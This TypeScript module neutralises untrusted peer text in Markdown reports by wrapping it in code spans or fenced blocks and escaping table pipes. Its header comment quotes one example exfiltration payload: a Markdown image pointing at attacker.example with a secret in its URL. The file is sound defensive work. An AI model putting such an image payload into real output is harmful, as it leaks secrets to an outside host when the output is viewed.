/**
 * Peer text in a Markdown document (REPORT.md, VERIFY.md) rendered inert: a viewer (GitHub, an
 * editor's preview, a chat app showing the file) shows it as the characters it is, and nothing in
 * it becomes an image, link, autolink, heading, table, list or HTML that would break out of where
 * it is quoted. An image is the attack: `![x](https://attacker.example/?d=<secret>)` (or a
 * reference-style one, or `<img src=…>`) in a commit subject or a bug title is fetched the moment
 * the report is opened, with whatever the peer put in its URL.
 *
 * Inline text becomes one code span whose backtick fence is longer than any backtick run inside it:
 * CommonMark parses nothing in a code span (no emphasis, link, autolink, entity or HTML), and with
 * its whitespace folded to single spaces it cannot end the paragraph, table row or list item it
 * stands in. Block text (a gate's output) becomes a fenced block whose fence is longer than any
 * backtick run in it, so no line of it closes the block. Every text is bounded and its hidden
 * characters shown first (shown-text.ts). SECURITY.md, "Peer text outside the sandbox is inert".
 */
import { MAX_SHOWN, shownText } from './shown-text.ts';

const longestRun = (text: string, ch: string): number => {
  let best = 0;
  let run = 0;
  for (const c of text) {
    run = c === ch ? run + 1 : 0;
    if (run > best) best = run;
  }
  return best;
};

function codeSpan(text: string): string {
  if (text === '') return '';
  const fence = '`'.repeat(longestRun(text, '`') + 1);
  // A span that starts or ends with a backtick needs a space between it and the fence (stripped again).
  const pad = text.startsWith('`') || text.endsWith('`') ? ' ' : '';
  return `${fence}${pad}${text}${pad}${fence}`;
}

/**
 * Characters that mean nothing to CommonMark or GFM inline, in any order: letters, digits, spaces
 * and a little punctuation. No `.`, `@` or `/` (no domain, e-mail or URL to autolink), no brackets,
 * `!`, `<`, `&`, backslash, backtick, `*`, `~`, `#` or `|`; and starting with a letter or digit not
 * followed by `)`, so that at the start of a line it is no list item or thematic break either. Text
 * like this stays as it is (a peer's name, a gate id, most causes); anything else is a code span.
 */
const PLAIN = /^(?:|(?!\p{N}+\))[\p{L}\p{N}][\p{L}\p{N} _:,;()=+\-\u2013\u2014\u00b7'%?]*)$/u;

/** Peer text inline in a paragraph, list item or quote: on one line, as it is when PLAIN, else one code span. */
export function mdText(text: unknown, max = MAX_SHOWN): string {
  const line = shownText(text, max).replace(/\s+/g, ' ').trim();
  return PLAIN.test(line) ? line : codeSpan(line);
}

/**
 * Peer text in a GFM table cell. The table is split into cells before anything else is parsed, code
 * spans included, and a pipe counts as escaped only after an odd run of backslashes (a backslash
 * pair is read as one escaped backslash): each pipe gets the backslash that makes its run odd, so no
 * pipe ends the cell and with it the code span.
 */
export function mdCell(text: unknown, max = MAX_SHOWN): string {
  return mdText(text, max).replace(/(\\*)\|/g, (_m, slashes: string) => `${slashes}${slashes.length % 2 ? '' : '\\'}|`);
}

/** Peer text as a block of its own (a gate's output): a fenced code block no line of it can close. */
export function mdBlock(text: unknown, max = MAX_SHOWN): string {
  const body = shownText(text, max).replace(/\n+$/, '');
  const fence = '`'.repeat(Math.max(3, longestRun(body, '`') + 1));
  return `${fence}text\n${body}\n${fence}`;
}
